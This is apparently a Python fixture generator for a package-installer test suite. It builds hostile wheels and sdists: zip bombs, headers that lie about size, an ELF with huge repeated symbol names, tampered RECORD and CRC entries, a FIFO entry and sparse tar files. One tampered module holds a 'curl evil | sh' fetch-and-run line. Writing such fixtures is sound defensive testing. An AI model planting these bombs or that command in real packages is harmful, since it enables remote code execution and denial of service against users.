"""Writes the hostile inputs of hostile_inputs.sh into a directory: wheels and sdists that each abuse one
parser (zip bombs, lying headers, an ELF file whose symbols all name one long string, a sparse file),
made small and at test time with the standard library (zipfile, zlib, struct, tarfile)."""
import base64
import gzip
import hashlib
import os
import stat
import struct
import sys
import tarfile
import zipfile
import zlib

OUT = sys.argv[1]
ARCH = sys.argv[2]  # the host's uname -m: x86_64 or aarch64
MACHINE = {"x86_64": 62, "aarch64": 183}[ARCH]
TAG = f"cp313-cp313-linux_{ARCH}"


def record_line(name, data):
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{name},sha256={digest},{len(data)}\n"


def wheel_files(dist, extra):
    """The files of a valid wheel named dist (pkg-1.0) with extra files, RECORD last and right."""
    files = dict(extra)
    files[f"{dist}.dist-info/METADATA"] = f"Metadata-Version: 2.1\nName: {dist.split('-')[0]}\nVersion: 1.0\n".encode()
    files[f"{dist}.dist-info/WHEEL"] = f"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: false\nTag: {TAG}\n".encode()
    record = "".join(record_line(name, data) for name, data in files.items()) + f"{dist}.dist-info/RECORD,,\n"
    files[f"{dist}.dist-info/RECORD"] = record.encode()
    return files


def write_wheel(path, files):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name, data)


def zero_entry(path, size):
    """A wheel whose one entry is size zero bytes, deflated (about 1000:1), written in chunks."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        with z.open("zero/zeros.bin", "w", force_zip64=True) as f:
            chunk = bytes(1 << 20)
            for _ in range(size >> 20):
                f.write(chunk)


def lying_size(path, real, declared):
    """A zip whose entry declares `declared` bytes in both headers but inflates to `real` bytes."""
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunks, crc = [], 0
    block = bytes(1 << 20)
    for _ in range(real >> 20):
        chunks.append(deflater.compress(block))
        crc = zlib.crc32(block, crc)
    chunks.append(deflater.flush())
    data = b"".join(chunks)
    name = b"liar/data.bin"
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0x21, crc, len(data), declared, len(name), 0)
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 0x314, 20, 0, 8, 0, 0x21, crc, len(data), declared,
                          len(name), 0, 0, 0, 0, 0o100644 << 16, 0)
    body = local + name + data
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 1, 1, len(central) + len(name), len(body), 0)
    with open(path, "wb") as f:
        f.write(body + central + name + end)


def one_name_elf(symbols, name_length):
    """An ELF64 shared object without section headers whose `symbols` undefined dynamic symbols all
    name one string of name_length bytes: a few KB deflated, symbols * name_length bytes if each
    symbol copies its name."""
    strtab = b"\0" + b"A" * name_length + b"\0"
    symtab = bytes(24) + struct.pack("<IBBHQQ", 1, 0x12, 0, 0, 0, 0) * (symbols - 1)
    hashtab = struct.pack("<II", 1, symbols) + bytes(4 * (1 + symbols))
    ehdr, phdr, dyn_entries = 64, 56, 6
    dynamic_at = ehdr + 2 * phdr
    hash_at = dynamic_at + 16 * dyn_entries
    symtab_at = hash_at + len(hashtab)
    strtab_at = symtab_at + len(symtab)
    size = strtab_at + len(strtab)
    dynamic = struct.pack("<" + "qQ" * dyn_entries, 4, hash_at, 5, strtab_at, 6, symtab_at, 10, len(strtab), 11,
                          24, 0, 0)
    header = struct.pack("<4sBBBBB7sHHIQQQIHHHHHH", b"\x7fELF", 2, 1, 1, 0, 0, bytes(7), 3, MACHINE, 1, 0, ehdr, 0,
                         0, ehdr, phdr, 2, 64, 0, 0)
    load = struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, size, size, 0x1000)
    dyn = struct.pack("<IIQQQQQQ", 2, 6, dynamic_at, dynamic_at, dynamic_at, len(dynamic), len(dynamic), 8)
    return header + load + dyn + dynamic + hashtab + symtab + strtab


def patch(path, old, new, occurrence):
    """Replaces the occurrence-th (0: the local header's, -1: the central directory's) copy of old."""
    data = open(path, "rb").read()
    positions = [i for i in range(len(data)) if data.startswith(old, i)]
    at = positions[occurrence]
    open(path, "wb").write(data[:at] + new + data[at + len(old):])


def main():
    os.makedirs(OUT, exist_ok=True)
    w = lambda name: os.path.join(OUT, name)

    zero_entry(w(f"zero-1.0-{TAG}.whl"), 2 << 30)
    lying_size(w(f"liar-1.0-{TAG}.whl"), 1 << 30, 1024)
    write_wheel(w(f"onename-1.0-{TAG}.whl"),
                wheel_files("onename-1.0", {"onename/_ext.so": one_name_elf(20000, (1 << 20) - 16)}))
    # Four such files, each under the per-table limits (60 MB of names), together over the total.
    many = one_name_elf(60000, 1000)
    write_wheel(w(f"many-1.0-{TAG}.whl"), wheel_files("many-1.0", {f"many/_m{i}.so": many for i in range(4)}))

    good = wheel_files("pkg-1.0", {"pkg/__init__.py": b"print('pkg')\n"})
    tampered = dict(good)
    tampered["pkg/__init__.py"] = b"import os; os.system('curl evil | sh')\n"
    write_wheel(w(f"record-1.0-{TAG}.whl"), tampered)

    write_wheel(w(f"crc-1.0-{TAG}.whl"), good)
    info = zipfile.ZipFile(w(f"crc-1.0-{TAG}.whl")).getinfo("pkg/__init__.py")
    data = bytearray(open(w(f"crc-1.0-{TAG}.whl"), "rb").read())
    for at in [i for i in range(len(data)) if data.startswith(b"PK\1\2", i)]:
        name_length = struct.unpack_from("<H", data, at + 28)[0]
        if bytes(data[at + 46:at + 46 + name_length]) == b"pkg/__init__.py":
            struct.pack_into("<I", data, at + 16, info.CRC ^ 0xFFFF)
    open(w(f"crc-1.0-{TAG}.whl"), "wb").write(bytes(data))

    with zipfile.ZipFile(w(f"fifo-1.0-{TAG}.whl"), "w") as z:
        for name, content in good.items():
            z.writestr(name, content)
        fifo = zipfile.ZipInfo("pkg/pipe")
        fifo.create_system = 0  # "made by" MS-DOS: readers that look at the host ignore the mode
        fifo.external_attr = (stat.S_IFIFO | 0o644) << 16
        z.writestr(fifo, b"")

    write_wheel(w(f"rename-1.0-{TAG}.whl"), good)
    patch(w(f"rename-1.0-{TAG}.whl"), b"pkg/__init__.py", b"pkg/__evil__.py", 0)

    # sdists: a sparse 3 GB file (GNU and pax forms, made by GNU tar -S) and a header declaring 5 GiB.
    for form in ("gnu", "posix"):
        top = os.path.join(OUT, f"src-{form}", "sparse-1.0")
        os.makedirs(top, exist_ok=True)
        open(os.path.join(top, "setup.py"), "w").write("from setuptools import setup\nsetup()\n")
        with open(os.path.join(top, "big.bin"), "wb") as f:
            f.truncate(3 << 30)
        rc = os.system(f"cd {OUT}/src-{form} && tar -S --format={form} -czf {w(f'sparse-{form}-1.0.tar.gz')} sparse-1.0")
        assert rc == 0
    header = tarfile.TarInfo("huge-1.0/blob.bin")
    header.size = 5 << 30
    raw = header.tobuf(format=tarfile.USTAR_FORMAT)
    with gzip.open(w("huge-1.0.tar.gz"), "wb") as f:
        f.write(raw + bytes(512 * 4))


main()
